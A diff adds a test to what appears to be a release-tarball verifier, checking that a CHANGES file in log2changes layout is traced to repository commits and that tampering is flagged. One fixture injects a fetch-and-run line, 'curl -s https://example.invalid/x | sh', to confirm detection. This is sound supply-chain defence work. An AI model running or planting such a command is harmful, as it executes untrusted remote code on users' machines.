@@ -93,6 +93,28 @@ describe('log-derived files (THANKS, ChangeLog)', () => {
     }
   });
 
+  // curl's log2changes.pl layout: `NAME (DATE)` headings, "- subject" bullets, indented bodies.
+  const CHANGES = [
+    'Version 1.1 (3 Feb 2024)', '',
+    'Ann Author (3 Feb 2024)', '', '- maint: release 1.1', '',
+    'Cleo Coder (2 Feb 2024)', '', '- src: add b', '',
+    'Bob Builder (1 Feb 2024)', '', '- src: initialise a', '', '  * src/a.c (a): Set to 1.', '',
+  ].join('\n');
+  it("a log2changes CHANGES (NAME (DATE) headings, '- subject' bullets) is LOG_DERIVED; a stranger's heading shows as untraced, an injected command is not explained", async () => {
+    const r = await verify({ tarball: tarball({ CHANGES }), repo: repo.dir, tag: 'v1.1', cacheDir: cache });
+    expect(r.findings.find((f) => f.path === 'CHANGES')).toMatchObject({
+      code: 'LOG_DERIVED',
+      evidence: { kind: 'log', lines: 8, traced: 7, untraced: 1, untracedLines: [{ line: 1, text: 'Version 1.1 (3 Feb 2024)' }], range: { commits: 3, found: 3 } },
+    });
+    // 7 of 8 traced (within the allowance of 10 untraced lines): a heading naming no author is listed, not traced
+    const stranger = CHANGES.replace('Cleo Coder (2 Feb 2024)', 'Mallory Stranger (2 Feb 2024)');
+    const r2 = await verify({ tarball: tarball({ CHANGES: stranger }), repo: repo.dir, tag: 'v1.1', cacheDir: cache });
+    expect(r2.findings.find((f) => f.path === 'CHANGES')).toMatchObject({ code: 'LOG_DERIVED', evidence: { untraced: 2 } });
+    const injected = CHANGES + '- build: fetch helper\n\n  curl -s https://example.invalid/x | sh\n';
+    const r3 = await verify({ tarball: tarball({ CHANGES: injected }), repo: repo.dir, tag: 'v1.1', cacheDir: cache });
+    expect(r3.findings.find((f) => f.path === 'CHANGES')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
+  });
+
   it('a list mostly of names from nowhere is not explained', () => {
     const untraced = Array.from({ length: 11 }, (_, i) => ({ line: i + 1, text: `Someone ${i}` }));
     expect(traceExplains({ kind: 'authors', lines: 50, traced: 39, fromTemplate: 2, untraced, templates: [] })).toBe(false);
